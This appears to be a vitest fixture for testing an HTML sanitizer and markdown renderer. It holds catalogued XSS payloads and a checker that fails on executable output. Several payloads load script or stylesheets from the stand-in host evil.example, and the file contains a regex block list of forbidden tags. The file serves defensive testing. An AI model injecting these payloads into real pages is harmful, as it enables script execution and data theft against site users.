import { expect } from 'vitest'

/**
 * XSS payloads that content (article markdown, FAQ HTML) might carry, grouped by technique. Both the sanitizer's
 * and the markdown renderer's tests run every one and check that nothing executable is left.
 */
export const htmlPayloads: Record<string, string[]> = {
  'script tags': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script type="module">import("https://evil.example/x.js")</script>',
    '<template><script>alert(1)</script></template>',
  ],
  'event handlers': [
    '<img src="x" onerror="alert(1)">',
    '<body onload="alert(1)">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    '<input autofocus onfocus="alert(1)">',
    '<div onclick="alert(1)" onmouseover="alert(2)">x</div>',
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>',
    '<a href="https://ok.example" oNcLiCk="alert(1)">x</a>',
  ],
  'javascript: URLs': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<IMG SRC=javascript:alert(1)>',
    '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<td background="javascript:alert(1)">x</td>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
  ],
  'data: URLs': [
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<picture><source srcset="data:image/svg+xml,<svg onload=alert(1)>"><img src="https://ok.example/a.png"></picture>',
  ],
  SVG: [
    '<svg onload="alert(1)"><circle /></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" /></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  ],
  'malformed tags': [
    '<scr<script>ipt>alert(1)</script>',
    '<<script>script>alert(1)<</script>/script>',
    '<img src=x onerror=alert(1)//',
    '<img src="x" onerror="alert(1)"',
    '<a href="javascript:alert(1)"',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src=x onerror=alert(1)>-->',
    '<img """><script>alert(1)</script>">',
    '<div <img src=x onerror=alert(1)>>',
  ],
  'other active content': [
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/x"></iframe>',
    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<form action="https://evil.example"><input name="a"></form>',
    '<div class="fixed inset-0 z-50">page overlay</div>',
    '<a id="cookie" name="x">clobber</a>',
  ],
}

/** Markdown-specific routes to the same places: links, images and autolinks. */
export const markdownPayloads: string[] = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  'Visit javascript:alert(1) now',
  '<div onclick="alert(1)">\n\n*markdown inside*\n\n</div>',
  '```html\n<script>alert(1)</script>\n```',
  '> <img src=x onerror=alert(1)>',
]

const decodeEntities = (html: string) =>
  html
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(
      /&(colon|tab|newline);/gi,
      (_, name: string) => ({ colon: ':', tab: '\t', newline: '\n' })[name.toLowerCase()]!,
    )

const FORBIDDEN_TAGS =
  /<\s*(script|svg|math|style|object|embed|base|meta|link|form|input|button|textarea|select|template|noscript|frame|frameset|applet)\b/i

/** Fails the test when the HTML could run script, load active content or restyle the page. */
export function expectNothingExecutable(html: string) {
  // An unclosed tag at the end counts too: a browser would still build the element.
  const tags = html.match(/<[a-z][^>]*(>|$)/gi) ?? []
  expect(html, 'forbidden element').not.toMatch(FORBIDDEN_TAGS)
  for (const tag of tags) {
    const plain = decodeEntities(tag).replace(/[\s\0]+/g, '')
    expect(tag, 'event-handler attribute').not.toMatch(/\son[a-z]+\s*=/i)
    expect(plain, 'script or data URL').not.toMatch(/(javascript|vbscript|data):/i)
    expect(tag, 'inline style').not.toMatch(/\sstyle\s*=/i)
    expect(tag, 'srcdoc').not.toMatch(/\ssrcdoc\s*=/i)
    expect(tag, 'name attribute (DOM clobbering)').not.toMatch(/\sname\s*=/i)
    if (!/^<h[1-6]\b/i.test(tag)) expect(tag, 'id outside headings (DOM clobbering)').not.toMatch(/\sid\s*=/i)
    expect(tag, 'class other than code language').not.toMatch(/\sclass\s*=\s*"(?!language-)/i)
    if (/^<iframe/i.test(tag))
      expect(tag, 'iframe outside the video allow-list').toMatch(
        /\ssrc="https:\/\/(www\.youtube\.com|www\.youtube-nocookie\.com|player\.vimeo\.com|www\.loom\.com)\//,
      )
  }
}
